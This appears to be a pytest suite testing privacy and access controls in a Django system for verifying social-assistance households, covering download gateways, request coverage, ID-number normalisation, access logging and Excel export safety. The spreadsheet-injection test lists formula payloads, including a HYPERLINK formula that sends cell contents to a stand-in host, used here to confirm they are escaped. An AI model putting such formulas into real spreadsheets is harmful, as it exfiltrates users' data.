"""Personal data reaches only the people doing the work (issue 9, leaks 1, 3, 4 and 5):
uploads served only through their object's gateway, a request covering exactly the
members authorised when it was filed, ID numbers in any form of digits stored as one,
checks answered from a snapshot opened and corrected by their own unit's liaison, and
the logging of downloads and of searches by full ID number."""

import datetime
import importlib
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import Resolver404, clear_url_caches, resolve, reverse
from openpyxl import load_workbook

from assistance.models import AccessLog
from tests.verification.factories import authorize_all, make_id_number, scan_file, years_ago
from tests.verification.helpers import grid, submit
from verification import answering, batches, register, services
from verification.connectors import SnapshotInvalid, snapshot_import
from verification.models import (
    Authorization,
    DepartmentCheck,
    Finding,
    HouseholdMember,
    UnitConnector,
    VerificationBatch,
)

pytestmark = pytest.mark.django_db

FULL_WIDTH = "１１０１０５１９４９１２３１００２Ｘ"
ASCII = "11010519491231002X"


@pytest.fixture(autouse=True)
def _english(client):
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"


def _snapshot(unit, liaison, rows, *, name="extract.csv"):
    UnitConnector.objects.update_or_create(
        unit=unit, defaults={"kind": UnitConnector.Kind.SNAPSHOT}
    )
    lines = ["身份证号码,核对事项,详情,金额", *(",".join(row) for row in rows)]
    upload = SimpleUploadedFile(name, "\n".join(lines).encode("utf-8"))
    return snapshot_import(actor=liaison, unit=unit, upload=upload, taken_on=datetime.date.today())


def _is_private_download(response, filename: str) -> None:
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment")
    assert filename in response["Content-Disposition"]


# --- Leak 1: uploads only through their gateway --------------------------------------------------


def test_no_url_serves_the_media_folder_even_in_debug(settings):
    import office.urls

    try:
        with override_settings(DEBUG=True):
            urls = importlib.reload(office.urls)
            clear_url_caches()
            media = "/" + settings.MEDIA_URL.strip("/") + "/authorizations/2026/01/1-scan.pdf"
            with pytest.raises(Resolver404):
                resolve(media, urlconf=urls)
    finally:
        importlib.reload(office.urls)
        clear_url_caches()


def test_authorisation_scan_goes_to_the_office_only_and_is_logged(
    client, clerk, director, liaison, auditor, administrator, authorized_household
):
    authorization = Authorization.objects.filter(member__household=authorized_household).first()
    url = reverse("verification:authorization_scan", args=[authorization.pk])
    for outsider in (liaison, auditor, administrator):
        client.force_login(outsider)
        assert client.get(url).status_code == 404
    assert not AccessLog.objects.exists()
    for office in (clerk, director):
        client.force_login(office)
        response = client.get(url)
        _is_private_download(response, f"authorization-{authorization.pk}.pdf")
        assert response["Content-Type"] == "application/pdf"
        assert b"".join(response.streaming_content).startswith(b"%PDF")
    logs = AccessLog.objects.order_by("pk")
    assert [(log.user, log.subject) for log in logs] == [
        (clerk, authorization),
        (director, authorization),
    ]
    assert authorization.member.id_number not in logs[0].object_repr


def test_registry_snapshot_goes_to_its_unit_and_the_office_only(
    client, unit, liaison, other_liaison, clerk, auditor, administrator, items
):
    member_number = make_id_number(years_ago(40))
    snapshot = _snapshot(unit, liaison, [(member_number, "test-vehicles", "轿车", "")])
    url = reverse("verification:snapshot_download", args=[snapshot.pk])
    for outsider in (other_liaison, auditor, administrator):
        client.force_login(outsider)
        assert client.get(url).status_code == 404
    client.logout()
    assert client.get(url).status_code in (302, 404)
    assert not AccessLog.objects.exists()
    for allowed in (liaison, clerk):
        client.force_login(allowed)
        response = client.get(url)
        _is_private_download(response, f"registry-snapshot-{unit.code}-")
        assert member_number.encode() in b"".join(response.streaming_content)
    assert list(AccessLog.objects.values_list("user", flat=True).order_by("pk")) == [
        liaison.pk,
        clerk.pk,
    ]
    # The unit's uploads page links to it; nothing links to the media folder.
    client.force_login(liaison)
    page = client.get(reverse("verification:snapshot_list")).content.decode()
    assert url in page and "/media/" not in page


def test_a_refused_upload_is_served_to_its_unit_only(client, unit, liaison, other_liaison, items):
    with pytest.raises(SnapshotInvalid):
        _snapshot(unit, liaison, [("110105194912310021", "test-vehicles", "", "")])
    snapshot = unit.snapshots.get()
    url = reverse("verification:snapshot_download", args=[snapshot.pk])
    client.force_login(other_liaison)
    assert client.get(url).status_code == 404
    client.force_login(liaison)
    assert client.get(url).status_code == 200


def test_a_deactivated_liaison_loses_the_snapshot(client, unit, liaison, items):
    snapshot = _snapshot(unit, liaison, [(make_id_number(years_ago(40)), "test-vehicles", "", "")])
    liaison.liaison.active = False
    liaison.liaison.save()
    client.force_login(liaison)
    url = reverse("verification:snapshot_download", args=[snapshot.pk])
    assert client.get(url).status_code == 404


def test_admin_shows_no_link_to_a_snapshot_file(client, unit, liaison, administrator, items):
    snapshot = _snapshot(unit, liaison, [(make_id_number(years_ago(40)), "test-vehicles", "", "")])
    client.force_login(administrator)
    url = reverse("admin:verification_registrysnapshot_change", args=[snapshot.pk])
    response = client.get(url)
    assert response.status_code == 200
    content = response.content.decode()
    assert snapshot.file.name in content  # named, not linked
    assert snapshot.file.url not in content and 'href="/media/' not in content


# --- Leak 3: a request covers the members authorised when it was filed -------------------------


def _add_member(clerk, household, *, authorised=True):
    member = register.member_add(
        actor=clerk,
        household=household,
        data=register.MemberData("新成员", "other", make_id_number(years_ago(33))),
    )
    if authorised:
        register.authorization_record(
            actor=clerk,
            member=member,
            signed_on=datetime.date.today(),
            valid_until=datetime.date.today() + datetime.timedelta(days=365),
            signer=Authorization.Signer.SELF,
            scan=scan_file(),
        )
    return member


def test_a_member_added_after_filing_never_reaches_the_department(
    client, clerk, liaison, unit, authorized_household, items, django_capture_on_commit_callbacks
):
    request = submit(
        django_capture_on_commit_callbacks, actor=clerk, household=authorized_household
    )
    covered = set(authorized_household.members.values_list("pk", flat=True))
    assert set(request.members.values_list("pk", flat=True)) == covered
    newcomer = _add_member(clerk, authorized_household, authorised=False)
    check = request.checks.get(unit=unit)

    client.force_login(liaison)
    page = client.get(check.get_absolute_url()).content.decode()
    assert newcomer.id_number not in page and newcomer.name not in page
    inbox = client.get(reverse("verification:inbox")).content.decode()
    assert newcomer.name not in inbox

    # An answer that names them is refused, and nothing is saved.
    with pytest.raises(services.VerificationError, match="does not cover"):
        services.check_answer(
            actor=liaison,
            check=check,
            findings=[
                services.FindingData(m.pk, i.pk, "no_record")
                for m in authorized_household.members.all()
                for i in check.items.all()
            ],
        )
    assert not Finding.objects.exists()
    # The page's form knows only the covered members: rows posted for anyone else are
    # not read, and the covered members alone make a whole answer.
    data = grid(check)
    for item in check.items.all():
        data[f"result_{newcomer.pk}_{item.pk}"] = "record_found"
        data[f"details_{newcomer.pk}_{item.pk}"] = "不该出现"
    response = client.post(reverse("verification:check_answer", args=[check.pk]), data)
    assert response.status_code == 302
    assert set(check.findings.values_list("member", flat=True)) == covered
    assert not Finding.objects.filter(member=newcomer).exists()

    # The clerk is told the newcomer needs a request of their own.
    client.force_login(clerk)
    detail = client.get(request.get_absolute_url()).content.decode()
    assert "Not covered by this request" in detail
    assert newcomer.masked_id in detail.split('data-testid="not-covered"')[1]
    report = client.get(reverse("verification:request_report", args=[request.pk])).content
    assert 'data-testid="report-not-covered"' in report.decode()


def test_a_snapshot_answers_only_for_the_covered_members(
    clerk, liaison, unit, authorized_household, items
):
    # Filed without running the delivery (a worker has not picked the check up yet).
    request = services.request_submit(actor=clerk, household=authorized_household, units=[unit])
    newcomer = _add_member(clerk, authorized_household)
    _snapshot(unit, liaison, [(newcomer.id_number, "test-vehicles", "轿车", "")])
    check = request.checks.get()
    assert services.check_deliver(check_id=check.pk)
    check.refresh_from_db()
    assert check.status == DepartmentCheck.Status.ANSWERED
    assert not check.findings.filter(member=newcomer).exists()
    assert check.findings.count() == 3 * 2  # the three covered members × two items


def test_a_batch_request_covers_its_authorised_members(clerk, group, unit, items, liaison):
    _snapshot(unit, liaison, [(make_id_number(years_ago(70)), "test-vehicles", "轿车", "")])
    household = register.household_register(
        actor=clerk,
        office=group,
        address="幸福路1号",
        town="大峪街道",
        assistance_type="dibao",
        members=[register.MemberData("张三", "applicant", make_id_number(years_ago(50)))],
    )
    authorize_all(actor=clerk, household=household)
    batch = VerificationBatch.objects.create(office=group, created_by=clerk)
    batches.batch_prepare(batch_id=batch.pk)
    request = batch.requests.get()
    assert list(request.members.all()) == list(household.members.all())
    newcomer = _add_member(clerk, household)
    check = request.checks.get(unit=unit)
    answering.answer_from_snapshot([check.pk], unit.snapshots.get(is_current=True))
    assert check.findings.count() == 2 and not check.findings.filter(member=newcomer).exists()


# --- Leak 4: ID numbers in other forms of digits ----------------------------------------------


def test_a_full_width_number_is_stored_plain_and_meets_the_one_member_rule(clerk, group, client):
    household = register.household_register(
        actor=clerk,
        office=group,
        address="幸福路2号",
        town="大峪街道",
        assistance_type="dibao",
        members=[register.MemberData("张三", "applicant", ASCII)],
    )
    with pytest.raises(ValidationError) as caught:
        register.member_add(
            actor=clerk,
            household=household,
            data=register.MemberData("张三", "other", FULL_WIDTH),
        )
    assert "already a member" in str(caught.value)
    other = register.household_register(
        actor=clerk,
        office=group,
        address="幸福路3号",
        town="大峪街道",
        assistance_type="dibao",
        members=[
            register.MemberData("张三", "applicant", f"{FULL_WIDTH[:6]}\u3000{FULL_WIDTH[6:]}")
        ],
    )
    assert other.members.get().id_number == ASCII
    # Through the page as well.
    client.force_login(clerk)
    url = reverse("verification:member_create", args=[household.pk])
    response = client.post(url, {"name": "重复", "relation": "other", "id_number": FULL_WIDTH})
    assert response.status_code == 200 and "already a member" in response.content.decode()
    assert household.members.count() == 1


@pytest.mark.parametrize(
    "number",
    [
        "١١٠١٠٥١٩٤٩١٢٣١٠٠٢X",  # Arabic-Indic digits: digits to Python, not to GB 11643
        "11010519491231002x",  # fine once upper-cased: the control case
    ],
)
def test_only_ascii_digits_make_a_number(clerk, group, number):
    data = register.MemberData("张三", "applicant", number)
    if number.isascii():
        household = register.household_register(
            actor=clerk,
            office=group,
            address="幸福路4号",
            town="大峪街道",
            assistance_type="dibao",
            members=[data],
        )
        assert household.members.get().id_number == ASCII
    else:
        with pytest.raises(ValidationError):
            register.household_register(
                actor=clerk,
                office=group,
                address="幸福路4号",
                town="大峪街道",
                assistance_type="dibao",
                members=[data],
            )
        assert not HouseholdMember.objects.exists()


def test_a_snapshot_row_in_full_width_digits_answers_the_member(
    clerk, liaison, unit, group, items, django_capture_on_commit_callbacks
):
    household = register.household_register(
        actor=clerk,
        office=group,
        address="幸福路5号",
        town="大峪街道",
        assistance_type="dibao",
        members=[register.MemberData("张三", "applicant", ASCII)],
    )
    authorize_all(actor=clerk, household=household)
    snapshot = _snapshot(unit, liaison, [(FULL_WIDTH, "test-vehicles", "轿车", "")])
    assert set(snapshot.records.values_list("id_number", flat=True)) == {ASCII}
    request = submit(
        django_capture_on_commit_callbacks, actor=clerk, household=household, units=[unit]
    )
    found = Finding.objects.get(department_check__request=request, result="record_found")
    assert found.details == "轿车"


def test_searching_by_a_full_width_number_finds_the_household_and_is_logged(client, clerk, group):
    household = register.household_register(
        actor=clerk,
        office=group,
        address="幸福路6号",
        town="大峪街道",
        assistance_type="dibao",
        members=[register.MemberData("张三", "applicant", ASCII)],
    )
    client.force_login(clerk)
    response = client.post(reverse("verification:household_list"), {"id_number": FULL_WIDTH})
    assert [h.pk for h in response.context["page"]] == [household.pk]
    log = AccessLog.objects.get()
    assert (log.user, log.subject, log.purpose) == (clerk, household, "registration")
    assert log.action == AccessLog.Action.SEARCH
    assert "110105********002X" in log.object_repr
    assert ASCII not in log.object_repr and ASCII not in log.path


def test_a_search_that_finds_nobody_is_logged_too(client, clerk, group):
    client.force_login(clerk)
    client.post(reverse("verification:household_list"), {"id_number": ASCII})
    log = AccessLog.objects.get()
    assert (log.user, log.subject, log.action) == (clerk, clerk, AccessLog.Action.SEARCH)
    assert "110105********002X" in log.object_repr and ASCII not in log.object_repr
    # A search by name is not a search by ID number: nothing logged.
    client.get(reverse("verification:household_list"), {"q": "张"})
    assert AccessLog.objects.count() == 1


# --- Leak 5: checks answered from a snapshot stay their unit's ---------------------------------


def test_a_batch_answered_check_is_its_units_to_open_and_correct(
    client, clerk, group, unit, other_unit, items, liaison, other_liaison
):
    _snapshot(unit, liaison, [(make_id_number(years_ago(70)), "test-vehicles", "轿车", "")])
    household = register.household_register(
        actor=clerk,
        office=group,
        address="幸福路7号",
        town="大峪街道",
        assistance_type="dibao",
        members=[register.MemberData("张三", "applicant", make_id_number(years_ago(50)))],
    )
    authorize_all(actor=clerk, household=household)
    batch = VerificationBatch.objects.create(office=group, created_by=clerk)
    batches.batch_prepare(batch_id=batch.pk)
    check = DepartmentCheck.objects.get(request__batch=batch, unit=unit)
    assert check.status == DepartmentCheck.Status.ANSWERED  # by the snapshot, in a chunk

    client.force_login(other_liaison)
    assert client.get(check.get_absolute_url()).status_code == 404
    assert client.post(reverse("verification:check_correct", args=[check.pk])).status_code == 404

    client.force_login(liaison)
    assert client.get(check.get_absolute_url()).status_code == 200
    member = household.members.get()
    vehicles = items["vehicles"]
    data = grid(check, **{f"result_{member.pk}_{vehicles.pk}": "record_found"})
    data[f"details_{member.pk}_{vehicles.pk}"] = "轿车 豫S·00001"
    data["reason"] = "快照漏登"
    response = client.post(reverse("verification:check_correct", args=[check.pk]), data)
    assert response.status_code == 302
    assert check.findings.get(item=vehicles).details == "轿车 豫S·00001"


# --- Impossible authorisation dates -------------------------------------------------------------


@pytest.mark.parametrize(
    ("signed_on", "valid_until", "field", "message"),
    [
        (1, 30, "signed_on", "cannot be signed in the future"),
        (-365 * 60, -365 * 59, "signed_on", "cannot be signed before that"),
        (0, -1, "valid_until", "cannot expire before it is signed"),
        (0, 365 * 5 + 10, "valid_until", "valid for at most 5 years"),
    ],
)
def test_an_authorisation_with_impossible_dates_is_refused(
    client, clerk, household, signed_on, valid_until, field, message
):
    today = datetime.date.today()
    member = household.members.filter(relation="spouse").get()  # born 43 years ago
    with pytest.raises(ValidationError) as caught:
        register.authorization_record(
            actor=clerk,
            member=member,
            signed_on=today + datetime.timedelta(days=signed_on),
            valid_until=today + datetime.timedelta(days=valid_until),
            signer=Authorization.Signer.SELF,
            scan=scan_file(),
        )
    assert message in " ".join(caught.value.message_dict[field])
    client.force_login(clerk)
    url = reverse("verification:authorization_create", args=[household.pk, member.pk])
    response = client.post(
        url,
        {
            "signed_on": (today + datetime.timedelta(days=signed_on)).isoformat(),
            "valid_until": (today + datetime.timedelta(days=valid_until)).isoformat(),
            "signer": "self",
            "guardian_name": "",
            "scan": scan_file(),
        },
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Authorization.objects.exists()


def test_the_validity_limit_is_a_setting(clerk, household, settings):
    settings.AUTHORIZATION_MAX_VALID_YEARS = 10
    today = datetime.date.today()
    register.authorization_record(
        actor=clerk,
        member=household.members.filter(relation="spouse").get(),
        signed_on=today,
        valid_until=today + datetime.timedelta(days=365 * 8),
        signer=Authorization.Signer.SELF,
        scan=scan_file(),
    )
    assert Authorization.objects.count() == 1


# --- Spreadsheet injection ----------------------------------------------------------------------


def test_the_excel_export_neutralises_formulas(
    client, clerk, liaison, unit, authorized_household, items, django_capture_on_commit_callbacks
):
    request = submit(
        django_capture_on_commit_callbacks,
        actor=clerk,
        household=authorized_household,
        units=[unit],
    )
    check = request.checks.get()
    payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-2+3", "@SUM(A1)"]
    members = list(request.members.order_by("pk"))
    vehicles = items["vehicles"]
    overrides = {}
    for member, payload in zip(members, payloads, strict=False):
        overrides[f"result_{member.pk}_{vehicles.pk}"] = "record_found"
        overrides[f"details_{member.pk}_{vehicles.pk}"] = payload
    client.force_login(liaison)
    answered = client.post(
        reverse("verification:check_answer", args=[check.pk]), grid(check, **overrides)
    )
    assert answered.status_code == 302

    client.force_login(clerk)
    response = client.get(reverse("verification:request_report_xlsx", args=[request.pk]))
    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell.value for row in sheet.iter_rows() for cell in row]
    for payload in payloads[: len(members)]:
        assert "'" + payload in cells
        assert payload not in cells
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # Masked ID numbers only, and the export is logged like the report.
    assert members[0].masked_id in cells and members[0].id_number not in cells
    assert list(AccessLog.objects.filter(user=clerk).values_list("action", flat=True)) == [
        AccessLog.Action.EXPORT
    ]
